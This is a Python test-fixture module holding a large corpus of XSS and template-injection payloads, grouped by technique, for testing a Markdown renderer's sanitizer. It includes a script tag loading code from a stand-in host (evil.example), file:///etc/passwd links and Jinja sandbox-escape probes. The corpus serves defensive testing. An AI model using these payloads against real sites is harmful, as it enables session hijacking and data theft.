"""A corpus of XSS payloads, stored as message content, titles and tags by the browser
tests and rendered through :func:`threadkeep.server.web.markdown.render_markdown` by
the unit tests.

Written for threadkeep from facts found in public XSS cheat sheets; grouped by the trick
each one tries: script tags, event handlers, dangerous URL schemes in HTML and in every
Markdown link form, SVG and MathML, style/link/meta/base, raw-text element breakouts,
attribute breakouts, entity double-decoding, Unicode look-alikes, CSS, template
injection (Jinja must never evaluate content), htmx attributes (the page runs htmx, so
an ``hx-*`` attribute from content would be a way around the CSP), payloads aimed at
this renderer (a fake copy button, a fence info string, the code-block markers), and
polyglots.

**Detection contract.** A payload that executes announces it in one of these ways, all
of which a browser test watches for:

* it sets ``window.__xss`` (:data:`FLAG`): the test reads it after the page settled;
* it calls ``alert``, ``confirm`` or ``prompt``: the test fails on any dialog;
* it logs the marker ``__xss`` (:data:`MARKER`) on the console;
* it requests :data:`HIT_PATH` (``/xss-hit``, by ``fetch`` or an ``<img>``/``<link>``
  with that URL): the test fails on any request to that path. The page's CSP allows
  images from 'self', so this catches markup that got into the DOM even where the CSP
  would stop a script: no ``<img>`` may ever come from content.

Every payload that could run if it reached the DOM unsanitized is written to trip one
of these. The strings are distinct (a test checks), and there are at least 220. None
holds a NUL character (the store refuses it); some are longer than a tag may be (64
characters), so a test storing them as tags picks the ones that fit.
"""

from __future__ import annotations

__all__ = ["FLAG", "HIT_PATH", "MARKER", "PAYLOADS"]

FLAG = "window.__xss"
MARKER = "__xss"
HIT_PATH = "/xss-hit"

_J = "window.__xss=1"
_HIT = "/xss-hit"

_SCRIPT_TAGS = (
    f"<script>{_J}</script>",
    "<script>alert(1)</script>",
    f"<SCRIPT>{_J}</SCRIPT>",
    f"<ScRiPt>{_J}</sCrIpT>",
    f"<script type='text/javascript'>{_J}</script>",
    f"<script type=module>{_J}</script>",
    f"<script src=data:text/javascript,{_J}></script>",
    f"<script src='{_HIT}?script-src'></script>",
    f"<scr<script>ipt>{_J}</scr</script>ipt>",
    f"<<script>{_J};//<</script>",
    f"<script\n>{_J}</script\n>",
    f"<script/xss>{_J}</script>",
    f"<script x>{_J}</script y>",
    f"<script>/*</script><script>*/{_J}</script>",
    f"<script>fetch('{_HIT}?fetch')</script>",
    "<script>console.log('__xss')</script>",
    f"<script\tsrc=//evil.example/x.js>{_J}</script>",
    f"<script charset=utf-8 defer>{_J}</script>",
    "<script>eval('win'+'dow.__xss=1')</script>",
    f"<script>setTimeout('{_J}')</script>",
    f"<script>{_J}",
    f"<noembed><script>{_J}</script></noembed>",
)

# Each handler on many tags: the tag kinds a sanitizer might allow by mistake.
_EVENT_HANDLERS = (
    f"<img src=x onerror={_J}>",
    "<img src=x onerror=alert(1)>",
    f"<IMG SRC=x ONERROR={_J}>",
    f"<img src=x onerror='{_J}'>",
    f'<img src=x onerror="{_J}">',
    f"<img src=x onerror=`{_J}`>",
    f"<img/src=x/onerror={_J}>",
    f"<img src=x:x onerror=javascript:{_J}>",
    f"<img src=x onerror\n={_J}>",
    "<img src=x onerror=&#119;indow.__xss=1>",
    f"<img src='{_HIT}?img'>",
    f"<img src=x onload={_J} onerror={_J}>",
    f"<img srcset='{_HIT}?srcset 1x'>",
    f"<picture><source srcset='{_HIT}?picture'><img></picture>",
    f"<svg onload={_J}>",
    f"<svg/onload={_J}>",
    f"<body onload={_J}>",
    f"<body onpageshow={_J}>",
    f"<details open ontoggle={_J}>",
    f"<details/open/ontoggle={_J}><summary>x</summary></details>",
    f"<video src=x onerror={_J}>",
    f"<video><source onerror={_J}></video>",
    f"<audio src=x onerror={_J}>",
    f"<input autofocus onfocus={_J}>",
    f"<input onblur={_J} autofocus><input autofocus>",
    f"<textarea autofocus onfocus={_J}>",
    f"<select autofocus onfocus={_J}>",
    f"<keygen autofocus onfocus={_J}>",
    f"<button autofocus onfocus={_J}>x</button>",
    f"<a href=# onfocus={_J} autofocus tabindex=1>x</a>",
    f"<div tabindex=1 autofocus onfocus={_J}>x</div>",
    f"<marquee onstart={_J}>x</marquee>",
    f"<marquee loop=1 width=0 onfinish={_J}>x</marquee>",
    f"<div onmouseover={_J} style='position:fixed;inset:0'>x</div>",
    f"<a onmouseover={_J}>hover</a>",
    f"<p onclick={_J}>click</p>",
    f"<span onpointerenter={_J}>x</span>",
    f"<iframe onload={_J}></iframe>",
    f"<iframe srcdoc='<script>parent.{_J}</script>'></iframe>",
    f"<iframe srcdoc='&lt;img src={_HIT}?srcdoc&gt;'></iframe>",
    f"<iframe src=javascript:{_J}></iframe>",
    f"<object data=javascript:{_J}></object>",
    f"<object data='data:text/html,<script>parent.{_J}</script>'></object>",
    f"<embed src=javascript:{_J}>",
    f"<embed src='data:text/html,<script>parent.{_J}</script>'>",
    f"<form><button formaction=javascript:{_J}>x</button></form>",
    f"<form action=javascript:{_J}><input type=submit></form>",
    f"<isindex type=image src=1 onerror={_J}>",
    f"<table background=javascript:{_J}>",
    f"<frameset onload={_J}>",
    f"<style onload={_J}></style>",
    f"<link rel=stylesheet href=x onerror={_J}>",
    f"<x onclick={_J}>custom</x>",
    f"<x contenteditable onfocus={_J} autofocus>x</x>",
    f"<div onanimationstart={_J} style='animation:spin 1s'>x</div>",
    f"<div ontransitionend={_J}>x</div>",
    f"<svg><animate onbegin={_J} attributeName=x dur=1s>",
    f"<body onresize={_J}>",
    f"<body onhashchange={_J}>",
    "<img src=x onerror=window['__x'+'ss']=1>",
    "<img src=x onerror=self[atob('X194c3M=')]=1>",
)

_HTML_URLS = (
    f"<a href=javascript:{_J}>x</a>",
    f"<a href='javascript:{_J}'>x</a>",
    f"<a href='JAVASCRIPT:{_J}'>x</a>",
    f"<a href=' javascript:{_J}'>x</a>",
    f"<a href='java\tscript:{_J}'>x</a>",
    f"<a href='java\nscript:{_J}'>x</a>",
    f"<a href='&#106;avascript:{_J}'>x</a>",
    f"<a href='&#x6A;avascript:{_J}'>x</a>",
    "<a href='&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    f"&#0000105&#0000112&#0000116&#0000058{_J}'>x</a>",
    f"<a href='javascript&colon;{_J}'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    f"<a href='data:text/html,<script>{_J}</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    f"<a href='\x01javascript:{_J}'>x</a>",
    f"<a href='javascript:void(0)' onclick='{_J}'>x</a>",
    f"<area href=javascript:{_J}>",
    f"<base href='javascript:{_J}//'><a href=x>x</a>",
    f"<math href=javascript:{_J}>click</math>",
    f"<form><input type=image src=x formaction=javascript:{_J}></form>",
)

# Markdown's own link forms: inline, reference, autolink, image, each with encodings.
_MARKDOWN_LINKS = (
    f"[x](javascript:{_J})",
    "[x](javascript:alert(1))",
    f"[x](JaVaScRiPt:{_J})",
    f"[x]( javascript:{_J})",
    f"[x](<javascript:{_J}>)",
    f"[x](&#106;avascript:{_J})",
    f"[x](&#x6a;avascript:{_J})",
    f"[x](&#0000106;avascript:{_J})",
    f"[x](javascript&colon;{_J})",
    f"[x](javascript&#58;{_J})",
    f"[x](%6Aavascript:{_J})",
    f"[x](javascript%3A{_J})",
    f"[x](%256Aavascript:{_J})",
    f"[x](<java\tscript:{_J}>)",
    f"[x](<java\nscript:{_J}>)",
    f"[x](java&#9;script:{_J})",
    f"[x](java&#10;script:{_J})",
    f"[x](&#1;javascript:{_J})",
    f"[x](\u200bjavascript:{_J})",
    f"[x](java\u200dscript:{_J})",
    f"[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54\uff1a{_J})",
    f"[x](javascript\\:{_J})",
    f"[x](javascript://%0a{_J})",
    f"[x](javascript://example.com/%0A{_J})",
    "[x](vbscript:msgbox(1))",
    f"[x](data:text/html,<script>{_J}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    f'[x](https://example.com "title" onmouseover="{_J})',
    f'[x](https://example.com "a&quot; onmouseover=&quot;{_J}")',
    f"[x](https://example.com 'a\" onmouseover=\"{_J}')",
    f'[x](https://example.com/" onmouseover="{_J})',
    f'[x]("onmouseover="{_J})',
    f"[<img src=x onerror={_J}>](https://example.com)",
    f"[x][r]\n\n[r]: javascript:{_J}",
    f"[x][r]\n\n[r]: &#106;avascript:{_J}",
    f'[x][r]\n\n[r]: <javascript:{_J}> "t"',
    f"[r]\n\n[r]: javascript:{_J}",
    f"![x][r]\n\n[r]: javascript:{_J}",
    f"<javascript:{_J}>",
    f"<JAVASCRIPT:{_J}>",
    "<vbscript:msgbox(1)>",
    f"<data:text/html,<script>{_J}</script>>",
    f"<a:b onmouseover={_J}>",
    f"![x](javascript:{_J})",
    f"![x](&#106;avascript:{_J})",
    f"![x](data:image/svg+xml,<svg onload={_J}>)",
    f"![x](data:text/html,<script>{_J}</script>)",
    f'![x](https://example.com/x.png" onerror="{_J})',
    f'![x" onerror="{_J}](https://example.com/x.png)',
    f"![<img src=x onerror={_J}>](https://example.com/x.png)",
    f"![x]({_HIT}?markdown-image)",
    f"![]({_HIT}?markdown-image-empty-alt)",
    f"![x](https://example.com{_HIT}?remote)",
    f"[![x]({_HIT}?image-in-link)](https://example.com)",
    f"![x](//{_HIT}?protocol-relative)",
    f"[x](https://example.com)<img src={_HIT}?after-link>",
    f"**<img src=x onerror={_J}>**",
    f"*[x](javascript:{_J})*",
    f"> [x](javascript:{_J})",
    f"- [x](javascript:{_J})",
    f"| a |\n|---|\n| [x](javascript:{_J}) |",
    f"| <img src=x onerror={_J}> |\n|---|\n| b |",
    f"~~[x](javascript:{_J})~~",
    f"# <script>{_J}</script>",
    f"Setext <img src=x onerror={_J}>\n===",
)

_SVG_MATHML = (
    f"<svg><script>{_J}</script></svg>",
    f"<svg><script href=data:,{_J} />",
    f"<svg><script xlink:href=data:,{_J}></script>",
    f"<svg><a xlink:href='javascript:{_J}'><text x=20 y=20>x</text></a></svg>",
    f"<svg><a href='javascript:{_J}'><rect width=100 height=100 /></a></svg>",
    f"<svg><animate xlink:href=#a attributeName=href values=javascript:{_J} />"
    "<a id=a><text y=20>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={_J} /></svg>",
    f"<svg><set attributeName=href to=javascript:{_J} /></svg>",
    f"<svg><foreignObject><img src=x onerror={_J}></foreignObject></svg>",
    f"<svg><image href={_HIT}?svg-image /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{_J}</script></svg>#x' /></svg>",
    f"<svg><style><img src=x onerror={_J}></style></svg>",
    f"<svg><title><img src=x onerror={_J}></title></svg>",
    f'<svg></p><style><a title="</style><img src=x onerror={_J}>">',
    f"<svg><desc><![CDATA[</desc><script>{_J}</script>]]></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_J}>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_J}>x</maction></math>",
    f"<math><mi xlink:href=javascript:{_J}>x</mi></math>",
    f'<math><mtext></mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror={_J}>">',
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_J}></annotation-xml></math>",
)

_HEAD_ELEMENTS = (
    f"<style>@import 'javascript:{_J}';</style>",
    f"<style>body{{background:url('{_HIT}?style')}}</style>",
    f"<style>*{{x:expression({_J})}}</style>",
    f"<link rel=stylesheet href='{_HIT}?link'>",
    f"<link rel=import href='data:text/html,<script>{_J}</script>'>",
    f"<link rel=prefetch href='{_HIT}?prefetch'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_J}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{_J}</script>'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
    f"<script>{_J}</script>",
    f"<base href='{_HIT}/'><img src=base>",
    f"<base target=_blank href=javascript:{_J}//>",
)

# Elements whose content is raw text: closing one early must not free the rest.
_BREAKOUTS = (
    f"</textarea><script>{_J}</script>",
    f"</textarea><img src={_HIT}?textarea>",
    f"</title><script>{_J}</script>",
    f"</title><img src={_HIT}?title>",
    f"</style><script>{_J}</script>",
    f"</script><script>{_J}</script>",
    f"</noscript><img src=x onerror={_J}>",
    f'<noscript><p title="</noscript><img src=x onerror={_J}>"></noscript>',
    f"</template><img src=x onerror={_J}>",
    f"<template><img src=x onerror={_J}></template>",
    f"</xmp><img src={_HIT}?xmp>",
    f"<xmp></xmp><img src=x onerror={_J}></xmp>",
    f"</iframe><img src={_HIT}?iframe>",
    f"</noembed><img src=x onerror={_J}>",
    f"</plaintext><img src=x onerror={_J}>",
    f"<plaintext><img src=x onerror={_J}>",
    f"</code></pre><img src={_HIT}?pre>",
    f"</mark><img src={_HIT}?mark>",
    f"</article><img src=x onerror={_J}>",
    f"</main></body><script>{_J}</script>",
    f'<!--<img src="--><img src=x onerror={_J}//">',
    f"<!-- --!><img src=x onerror={_J}>-->",
    f"<![CDATA[><img src=x onerror={_J}>]]>",
    f"<?xml version=1><img src=x onerror={_J}>",
    f"<!DOCTYPE html><img src=x onerror={_J}>",
)

# Text that lands inside an attribute (a title, a data-* value) and tries to leave it.
_ATTRIBUTE_BREAKOUTS = (
    f'" onmouseover="{_J}',
    f"' onmouseover='{_J}",
    f'" autofocus onfocus="{_J}" x="',
    f"'><img src={_HIT}?quote-single>",
    f'"><img src={_HIT}?quote-double>',
    f'"><script>{_J}</script>',
    f"'><script>{_J}</script>",
    f"`><img src=x onerror={_J}>",
    f" onfocus={_J} autofocus ",
    f'" style="background:url(javascript:{_J})',
    f'"/><svg onload={_J}>',
    f'\\"><img src=x onerror={_J}>',
    f'" hx-get="{_HIT}?attr-hx" hx-trigger="load',
)

# Escaped markup that must stay text: decoded once (by the Markdown parser), never twice.
_ENTITIES = (
    f"&lt;script&gt;{_J}&lt;/script&gt;",
    f"&lt;img src=x onerror={_J}&gt;",
    f"&amp;lt;img src={_HIT}?double-entity&amp;gt;",
    f"&#60;img src={_HIT}?decimal-entity&#62;",
    f"&#x3C;img src={_HIT}?hex-entity&#x3E;",
    f"&#x003C;script&#x003E;{_J}&#x003C;/script&#x003E;",
    f"&LT;img src={_HIT}?upper-entity&GT;",
    f"&lt&gt;<img src=x onerror={_J}>",
    f"\\<img src={_HIT}?backslash-escaped>",
    f"%3Cimg%20src%3D{_HIT}%3Fpercent%3E",
    f"\\u003cimg src={_HIT}?js-escape\\u003e",
    f"\\x3cscript\\x3e{_J}\\x3c/script\\x3e",
)

# Code must show as text, wherever it sits.
_CODE = (
    f"`<img src={_HIT}?code-span>`",
    f"``<script>{_J}</script>``",
    f"```\n<script>{_J}</script>\n```",
    f"```html\n<img src={_HIT}?fence>\n```",
    f"    <img src={_HIT}?indented-code>",
    f"~~~\n</code></pre><img src={_HIT}?fence-close>\n~~~",
    f"`</code><img src=x onerror={_J}>`",
)

# Aimed at this renderer: its copy buttons, its fence info string, its markers.
_RENDERER = (
    f'<button class="copy-code" onclick="{_J}">Copy</button>',
    '<div class="code-block"><button class="copy-code">Copy</button></div>'
    f"<img src={_HIT}?fake-block>",
    f'```"><img src={_HIT}?fence-info>\nx\n```',
    f"```python onload={_J}\nx\n```",
    f"```<script>{_J}</script>\nx\n```",
    f'```language-x" onmouseover="{_J}\nx\n```',
    f"```{'a' * 40}<img src={_HIT}?long-lang>\nx\n```",
    f"```js\n```\n<img src={_HIT}?after-empty-fence>",
    f"\ue000{'0' * 16}:0\ue001<pre><img src={_HIT}?marker></pre>\ue002{'0' * 16}:0\ue003",
    f"\ue000{'0' * 16}:0\ue001```\nx\n```\ue002{'0' * 16}:0\ue003",
    f"1. x\n\n```\n{'y' * 10}\n```\n\n<span class=copy-code>{_J}</span>",
    f"| a |\n|:-:|\n| <td style=x onmouseover={_J}> |",
    f"9999999999. big list start <img src={_HIT}?ol>",
    f'<ol start="1 onmouseover={_J}"><li>x</li></ol>',
    f"<p id=messages data-hx-get={_HIT}?id-clobber>clobber</p>",
    f"<form id=composer><input name=action value={_HIT}?clobber></form>",
    f"<a id=__xss name=__xss href={_HIT}?dom-clobber>x</a>",
)

_UNICODE = (
    f"\uff1cscript\uff1e{_J}\uff1c/script\uff1e",
    f"\uff1cimg src=x onerror={_J}\uff1e",
    f"<scr\u200bipt>{_J}</scr\u200bipt>",
    f"<img\u200dsrc=x onerror={_J}>",
    f"\u202e>tpircs/<{_J}>tpircs<",
    f"<a href='\u202ejavascript:{_J}'>rtl</a>",
    f"\u003cimg src={_HIT}?unicode-escape\u003e",
    "<img src=x onerror=\\u0077indow.__xss=1>",
    f"\ufeff<script>{_J}</script>",
    f"\x08<script>{_J}</script>",
    f"<scr\x0bipt>{_J}</scr\x0bipt>",
    f"\u2028<img src=x onerror={_J}>\u2029",
    f"<\u017fcript>{_J}</\u017fcript>",
    f"<\u0131mg src=x onerror={_J}>",
)

_CSS = (
    f'<div style="background:url(javascript:{_J})">x</div>',
    f"<div style=\"background-image:url('{_HIT}?inline-style')\">x</div>",
    f'<div style="width:expression({_J})">x</div>',
    f'<div style="behavior:url(x.htc);-moz-binding:url(data:,{_J})">x</div>',
    f'<div style="x:\\65xpression({_J})">x</div>',
    f"<p style=\"list-style-image:url('{_HIT}?list-style')\">x</p>",
)

# Jinja must render content as text, never as a template; an evaluated one would request
# /xss-hit or set the flag.
_TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    f"{{{{ '<img src={_HIT}?jinja>'|safe }}}}",
    f"{{% raw %}}<img src={_HIT}?raw>{{% endraw %}}",
    f"{{% if 1 %}}<img src={_HIT}?jinja-if>{{% endif %}}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self._TemplateReference__context }}",
    "{{ csrf_token }}",
    f"{{{{ static('x') }}}}<img src={_HIT}?jinja-static>",
    f"{{# comment #}}<img src=x onerror={_J}>",
    "${alert(1)}",
    f"{{{{constructor.constructor('{_J}')()}}}}",
)

# htmx acts on attributes whatever the CSP says: none may come from content.
_HTMX = (
    f'<div hx-get="{_HIT}?hx-get" hx-trigger="load">x</div>',
    f'<div data-hx-get="{_HIT}?data-hx-get" data-hx-trigger="load">x</div>',
    f'<button hx-post="{_HIT}?hx-post" hx-trigger="load">x</button>',
    f'<div hx-on:click="{_J}">click</div>',
    f'<div hx-on::load="{_J}">x</div>',
    f'<div hx-on-htmx-load="{_J}">x</div>',
    f'<div data-hx-on:click="{_J}">x</div>',
    f'<img src=x hx-get="{_HIT}?hx-img" hx-trigger="load">',
    f'<div hx-trigger="load" hx-get="{_HIT}?hx-swap" hx-swap="outerHTML" hx-target="body">x</div>',
    f'<a hx-boost="true" href="{_HIT}?hx-boost">x</a>',
    f'<div hx-vals=\'js:{{x: {_J}}}\' hx-get="{_HIT}?hx-vals" hx-trigger="load">x</div>',
    f'<div hx-headers=\'js:{{x: {_J}}}\' hx-post="{_HIT}?hx-headers" hx-trigger="load">x</div>',
    f'<div hx-trigger="load[{_J}]" hx-get="{_HIT}?hx-filter">x</div>',
    f'<div hx-ext="x" hx-get="{_HIT}?hx-ext" hx-trigger="revealed">x</div>',
    f'<form hx-post="{_HIT}?hx-form" hx-trigger="load"></form>',
    f'<div hx-sse="connect:{_HIT}?sse">x</div>',
    f'<div sse-connect="{_HIT}?sse-connect">x</div>',
    '<div hx-ws="connect:/xss-hit">x</div>',
    f'<template hx-get="{_HIT}?hx-template" hx-trigger="load"></template>',
    f'[x](https://example.com "t" hx-get="{_HIT}?hx-md" hx-trigger="load")',
)

_POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    f"'\"--></style></script><img src={_HIT}?polyglot onerror={_J}>",
    f"\"'><svg/onload={_J}>//--></script><script>{_J}</script>",
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{_J}//'>",
    f"'\"`><\\x3Cimg src={_HIT}?polyglot2 onerror={_J}>",
    f"--><!--<script>{_J}</script>-->",
    f"[x](javascript:{_J})<svg onload={_J}>`<img src={_HIT}?polyglot3>`",
    f"]]><![CDATA[<img src=x onerror={_J}>",
)

PAYLOADS: tuple[str, ...] = (
    *_SCRIPT_TAGS,
    *_EVENT_HANDLERS,
    *_HTML_URLS,
    *_MARKDOWN_LINKS,
    *_SVG_MATHML,
    *_HEAD_ELEMENTS,
    *_BREAKOUTS,
    *_ATTRIBUTE_BREAKOUTS,
    *_ENTITIES,
    *_CODE,
    *_RENDERER,
    *_UNICODE,
    *_CSS,
    *_TEMPLATES,
    *_HTMX,
    *_POLYGLOTS,
)
